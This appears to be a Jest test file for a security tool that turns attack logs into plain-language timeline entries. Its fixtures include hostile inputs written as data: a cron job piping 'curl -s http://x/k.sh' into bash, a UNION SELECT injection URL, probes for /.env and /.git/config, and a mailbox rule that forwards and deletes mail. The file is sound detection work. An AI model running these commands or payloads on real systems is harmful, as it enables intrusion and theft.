import { loadAttackCatalog } from '../attack';
import { makeSignal } from '../correlate/signal';
import { event, failedLogons, lookupOf } from '../correlate/testing/events';
import { buildTimeline, describeEvent } from './index';

const catalog = loadAttackCatalog();
const rule = { id: 'r1', title: 'Failed logon burst', level: 'medium', tags: [] };

describe('timeline', () => {
  it('collapses 55 failed RDP logons for 4 accounts into one entry with count and time range', () => {
    const events = failedLogons(0, 55, '80.94.95.112', ['backup', 'admin', 'administrator', 'scanner']);
    const lookup = lookupOf(events);
    const s = makeSignal('behaviour', 's', rule, events.map((e) => e.index), lookup, catalog);
    const timeline = buildTimeline(events, [s], lookup);
    expect(timeline).toHaveLength(1);
    expect(timeline[0]).toMatchObject({ timestamp: '2026-02-09T23:10:00Z', count: 55, rule_ids: ['r1'] });
    expect(timeline[0].description).toMatch(/^55 failed RDP logons for 4 accounts \(backup, admin, administrator, scanner\) from 80\.94\.95\.112 to RDS-01 between 23:10:00 and 23:11:48/);
    expect(timeline[0].event_indices?.length).toBe(50);
  });

  it('keeps rule titles out of the sentence: the rules are evidence in rule_ids', () => {
    const events = failedLogons(0, 3, '80.94.95.112', ['admin']);
    const lookup = lookupOf(events);
    const s = makeSignal('detection', 's', { ...rule, level: 'high' }, [0], lookup, catalog);
    const [entry] = buildTimeline(events, [s], lookup);
    expect(entry.description).not.toContain('Failed logon burst');
    expect(entry.description).not.toMatch(/\[.*\]/);
    expect(entry.rule_ids).toEqual(['r1']);
  });

  it('writes one sentence naming actor, action, target and outcome', () => {
    const fw = event(0, '2026-04-03T14:20:00Z', { action: 'network_connection', outcome: 'success', logsource: { category: 'firewall' }, fields: { source: 'firewall' }, entities: { srcIp: '185.220.101.42', dstIp: '10.0.1.15', dstPort: 22 } });
    expect(describeEvent(fw, (v) => (v === '185.220.101.42' ? `${v} (Tor exit node)` : v))).toBe('Firewall allowed inbound SSH connection from 185.220.101.42 (Tor exit node) to 10.0.1.15');
  });

  it('reads identity-provider event types as words and keeps the identifier to search for', () => {
    const deny = event(0, '2026-05-18T07:55:00Z', { action: 'mfa', outcome: 'failure', fields: { eventType: 'user.mfa.okta_verify.deny_push' }, entities: { user: 'rsingh@corp.example', srcIp: '146.70.117.201' } });
    expect(describeEvent(deny)).toBe('Okta Verify push denied (user.mfa.okta_verify.deny_push) by rsingh@corp.example from 146.70.117.201');
    const key = event(1, '2026-05-18T07:56:00Z', { action: 'api_call', fields: { eventName: 'CreateAccessKey' }, entities: { user: 'pedro' } });
    expect(describeEvent(key)).toBe('Create access key (CreateAccessKey) by pedro');
  });

  it('keeps untimed events in request order next to their timed neighbours and marks their time unknown', () => {
    const events = [
      event(0, '2026-01-01T10:00:00Z', { action: 'process_create', entities: { process: 'a.exe', host: 'h' } }),
      event(1, undefined, { action: 'process_create', entities: { process: 'b.exe', host: 'h' } }),
      event(2, '2026-01-01T09:00:00Z', { action: 'process_create', entities: { process: 'c.exe', host: 'h' } }),
    ];
    const lookup = lookupOf(events);
    const s = makeSignal('detection', 's', { ...rule, level: 'high' }, [0, 1, 2], lookup, catalog);
    const timeline = buildTimeline(events, [s], lookup);
    expect(timeline.map((t) => t.event_indices)).toEqual([[2], [0], [1]]);
    expect(timeline[2].timestamp).toBe('unknown');
  });

  it('stays bounded and says how much was left out', () => {
    const events = Array.from({ length: 150 }, (_, i) => event(i, new Date(Date.UTC(2026, 0, 1, 0, i * 31)).toISOString(), { action: 'process_create', entities: { process: `p${i}.exe`, host: 'h' } }));
    const lookup = lookupOf(events);
    const s = makeSignal('detection', 's', { ...rule, level: 'high' }, events.map((e) => e.index), lookup, catalog);
    const timeline = buildTimeline(events, [s], lookup, { max: 100 });
    expect(timeline).toHaveLength(100);
    expect(timeline[99].description).toBe('51 further flagged events in 51 lower-priority steps are not shown');
  });

  it('names the service of a logon whose own record lacks it from the allowed connection just before', () => {
    const fw = event(0, '2026-04-03T14:20:00Z', { action: 'network_connection', outcome: 'success', logsource: { category: 'firewall' }, fields: { source: 'firewall' }, entities: { srcIp: '185.220.101.42', dstIp: '10.0.1.15', dstPort: 22 } });
    const logon = event(1, '2026-04-03T14:22:00Z', { action: 'logon', outcome: 'success', fields: { action: 'login_success' }, entities: { user: 'admin', srcIp: '185.220.101.42', dstIp: '10.0.1.15' } });
    const other = event(2, '2026-04-03T14:23:00Z', { action: 'logon', outcome: 'success', fields: { action: 'login_success' }, entities: { user: 'bob', srcIp: '198.18.7.1', dstIp: '10.0.1.15' } });
    const events = [fw, logon, other];
    const lookup = lookupOf(events);
    const s = makeSignal('detection', 's', { ...rule, level: 'high' }, [1, 2], lookup, catalog);
    const [first, second] = buildTimeline(events, [s], lookup);
    expect(first.description).toBe('Successful SSH logon as admin from 185.220.101.42 to 10.0.1.15');
    expect(second.description).toBe('Successful logon as bob from 198.18.7.1 to 10.0.1.15');
  });

  it('names the account a group change added by SID only: the one created just before on that host', () => {
    const created = event(0, '2026-02-09T23:14:03Z', { format: 'windows', action: 'account_created', fields: { EventID: 4720, TargetUserName: 'helpdesk$' }, entities: { user: 'backup', targetUser: 'helpdesk$', host: 'RDS-01' } });
    const added = event(1, '2026-02-09T23:14:21Z', { format: 'windows', action: 'group_member_added', fields: { EventID: 4732, TargetUserName: 'Administrators', MemberName: '-', MemberSid: 'S-1-5-21-1-2-3-1104' }, entities: { user: 'backup', host: 'RDS-01' } });
    const events = [created, added];
    const lookup = lookupOf(events);
    const s = makeSignal('detection', 's', { ...rule, level: 'high' }, [1], lookup, catalog);
    expect(buildTimeline(events, [s], lookup)[0].description).toBe('backup added helpdesk$ (SID S-1-5-21-1-2-3-1104, the account created just before) to group Administrators on RDS-01');
  });

  it('reads sudo, cron and usermod lines as sentences', () => {
    const sudo = event(0, '2026-03-14T02:13:40Z', { format: 'syslog', action: 'privilege_use', logsource: { product: 'linux', service: 'sudo' }, entities: { user: 'deploy', targetUser: 'root', commandLine: '/bin/bash', host: 'web-02' } });
    expect(describeEvent(sudo)).toBe('deploy ran /bin/bash as root via sudo on web-02');
    const cron = event(1, '2026-03-14T02:20:01Z', { format: 'syslog', action: 'task_run', logsource: { product: 'linux', service: 'cron' }, entities: { user: 'root', commandLine: 'curl -s http://x/k.sh | bash', host: 'web-02' } });
    expect(describeEvent(cron)).toBe('cron ran as root on web-02: curl -s http://x/k.sh | bash');
    const usermod = event(2, '2026-03-14T02:14:09Z', { format: 'syslog', action: 'group_member_added', logsource: { product: 'linux', service: 'auth' }, fields: { TargetUserName: 'sysupd', group: 'sudo' }, entities: { targetUser: 'sysupd', host: 'web-02' } });
    expect(describeEvent(usermod)).toBe('Added sysupd to group sudo on web-02');
  });

  it('collapses a burst of refused web probes into one step naming the scanner, and decodes what the attacker sent', () => {
    const probe = (i: number, path: string): ReturnType<typeof event> => event(i, `2026-07-21T10:02:0${i}Z`, { format: 'web_access', action: 'http_request', outcome: 'failure', logsource: { category: 'webserver' }, fields: { 'sc-status': 404, 'cs-method': 'GET', 'cs-user-agent': 'Mozilla/5.00 (Nikto/2.5.0)' }, entities: { srcIp: '45.148.10.81', url: path } });
    const sqli = event(5, '2026-07-21T10:05:11Z', { format: 'web_access', action: 'http_request', outcome: 'failure', logsource: { category: 'webserver' }, fields: { 'sc-status': 500, 'cs-method': 'GET' }, entities: { srcIp: '45.148.10.81', url: '/p?id=1%27%20UNION%20SELECT%201--' } });
    const events = [probe(0, '/admin/'), probe(1, '/.env'), probe(2, '/.git/config'), sqli];
    const lookup = lookupOf(events);
    const signals = [makeSignal('detection', 'a', { ...rule, id: 'a' }, [0, 1], lookup, catalog), makeSignal('detection', 'b', { ...rule, id: 'b' }, [2, 5], lookup, catalog)];
    const timeline = buildTimeline(events, signals, lookup);
    expect(timeline).toHaveLength(2);
    expect(timeline[0].description).toBe('3 requests from 45.148.10.81 for 3 different paths (HTTP 404), user agent Nikto between 10:02:00 and 10:02:02: /admin/, /.env, /.git/config');
    expect(timeline[1].description).toBe("45.148.10.81 GET /p?id=1' UNION SELECT 1-- (HTTP 500)");
  });

  it('says where a mailbox rule forwards mail and that it hides the messages', () => {
    const rule = event(0, '2026-10-10T08:03:00Z', { format: 'm365', action: 'api_call', fields: { Operation: 'New-InboxRule', Parameters: [{ Name: 'ForwardTo', Value: 'smtp:ap.payments@protonmail.com' }, { Name: 'DeleteMessage', Value: 'True' }] }, entities: { user: 'cfo@acme.example', srcIp: '45.95.169.10' } });
    expect(describeEvent(rule)).toBe('cfo@acme.example set mail forwarding to ap.payments@protonmail.com (New-InboxRule), hiding or deleting the forwarded messages from 45.95.169.10');
  });
});


describe('directory replication', () => {
  it('reads a 4662 with replication rights as a request for directory secrets, naming the right and the account', () => {
    const e = event(0, '2026-08-14T22:01:12Z', { format: 'windows', action: 'object_access', fields: { EventID: 4662, Properties: '%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}' }, logsource: { product: 'windows', service: 'security' }, entities: { user: 'CORP\\svc_backup', host: 'DC01.corp.example' } });
    expect(describeEvent(e)).toBe('CORP\\svc_backup requested replication of directory secrets (DS-Replication-Get-Changes-All, as DCSync does) on DC01.corp.example');
  });
});
